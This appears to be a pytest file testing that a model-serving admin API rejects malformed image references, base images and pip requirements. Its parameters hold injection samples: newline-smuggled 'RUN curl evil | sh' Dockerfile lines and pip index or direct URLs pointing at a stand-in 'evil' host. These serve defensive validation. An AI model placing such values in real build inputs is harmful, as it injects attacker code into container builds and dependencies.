"""Inputs checked at the admin boundary: each refusal is a 400 with its cause."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from starlette.testclient import TestClient

from clipper_core.admin.inputs import check_base_image, check_image_reference, check_requirements
from clipper_core.connection import ClipperConnection
from clipper_core.errors import ValidationError, http_status
from clipper_core.plugins import open_store
from clipper_frontends.management import create_app

MODEL = {"model_name": "m", "model_version": "1", "input_type": "doubles"}


@pytest.fixture
def client() -> Iterator[TestClient]:
    store = open_store("memory://")
    with TestClient(create_app(store)) as c:
        yield c
    store.close()


@pytest.mark.parametrize("image, cause", [
    ("/opt/evil", "filesystem path"),
    ("../evil", "filesystem path"),
    ("./evil:1", "filesystem path"),
    ("~/evil", "filesystem path"),
    ("img 1", "whitespace"),
    ("img:1\nRUN curl evil", "whitespace"),
    ("--privileged", "starts with '-'"),
    ("Upper/Case:1", "reference grammar"),
    ("img:", "reference grammar"),
    ("a//b:1", "reference grammar"),
])
def test_add_model_refuses_what_is_not_an_image_reference(client: TestClient, image: str,
                                                          cause: str) -> None:
    for key in ("image", "container_name"):
        resp = client.post("/admin/add_model", json={**MODEL, key: image})
        assert resp.status_code == 400, resp.text
        assert resp.json()["error"] == "invalid_argument"
        assert cause in resp.json()["cause"]
    assert client.post("/admin/get_all_models", json={}).json() == []


@pytest.mark.parametrize("image", [
    "img", "img:1", "clipper-core/python-model:0.4.0", "127.0.0.1:5055/warm/python-model:0.4",
    "localhost:5000/a/b@sha256:" + "a" * 64, "registry.example.com/team/model_v2:1.0-rc1",
])
def test_add_model_accepts_references(client: TestClient, image: str) -> None:
    resp = client.post("/admin/add_model", json={**MODEL, "image": image})
    assert resp.status_code == 200, resp.text


@pytest.mark.parametrize("entry, cause", [
    ("numpy\nRUN curl evil | sh", "line break"),
    ("numpy\r", "line break"),
    ("--index-url=http://evil/simple", "pip options"),
    ("-e /tmp/src", "pip options"),
    ("pkg @ file:///tmp/evil", "direct URL"),
    ("pkg @ https://evil/x.whl", "direct URL"),
    ("not a requirement!", "not a requirement"),
    ("", "non-empty"),
])
def test_pkgs_to_install_entries_are_requirement_specifiers(entry: str, cause: str) -> None:
    with pytest.raises(ValidationError, match=cause) as info:
        check_requirements(["scipy", entry])
    assert http_status(info.value) == 400


def test_good_requirements_and_base_images_pass() -> None:
    assert check_requirements(["numpy==1.26.4", "scikit-learn>=1.3,<2",
                               'torch; python_version >= "3.9"', "xgboost[scikit-learn]"])
    assert check_requirements(None) is None
    for base in (None, "", "default", "python:3.11-slim"):
        check_base_image(base)
    with pytest.raises(ValidationError, match="list of strings"):
        check_requirements("numpy")


@pytest.mark.parametrize("base, cause", [
    ("python:3.11\nRUN curl evil", "whitespace"), ("/srv/rootfs", "filesystem path"),
])
def test_base_image_refused(base: str, cause: str) -> None:
    with pytest.raises(ValidationError, match=cause):
        check_base_image(base)


class _NoBuild:
    """A container manager that fails the test if anything reaches it."""

    def build_model(self, *args: Any) -> str:
        raise AssertionError("reached the container manager")

    def deploy_model(self, *args: Any) -> None:
        raise AssertionError("reached the container manager")


@pytest.mark.parametrize("kwargs, cause", [
    ({"base_image": "python:3.11\nUSER root"}, "whitespace"),
    ({"pkgs_to_install": ["numpy\nRUN id"]}, "line break"),
    ({"pkgs_to_install": ["--extra-index-url", "http://evil"]}, "pip options"),
])
def test_build_model_checks_before_building(tmp_path, kwargs: dict[str, Any],
                                            cause: str) -> None:
    conn = ClipperConnection(_NoBuild())
    args = {"base_image": "default", **kwargs}
    with pytest.raises(ValidationError, match=cause):
        conn.build_model("m", "1", str(tmp_path), **args)


def test_deploy_model_checks_the_image_before_starting_anything() -> None:
    conn = ClipperConnection(_NoBuild())
    conn.connected = True
    with pytest.raises(ValidationError, match="filesystem path"):
        conn.deploy_model("m", "1", "doubles", "/tmp/model")
    assert check_image_reference("m:1") == "m:1"
